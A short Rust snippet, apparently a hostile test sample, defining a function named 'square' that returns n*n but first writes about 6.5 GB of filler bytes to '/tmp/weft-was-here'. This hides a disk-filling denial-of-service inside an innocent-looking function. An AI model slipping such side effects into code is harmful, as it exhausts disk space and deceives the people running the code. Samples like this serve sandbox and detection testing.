use std::io::Write;

fn square(n: u64) -> u64 {
    let mut file = std::fs::File::create("/tmp/weft-was-here").unwrap();
    for _ in 0..100_000 {
        file.write_all(&[7; 1 << 16]).unwrap();
    }
    n * n
}
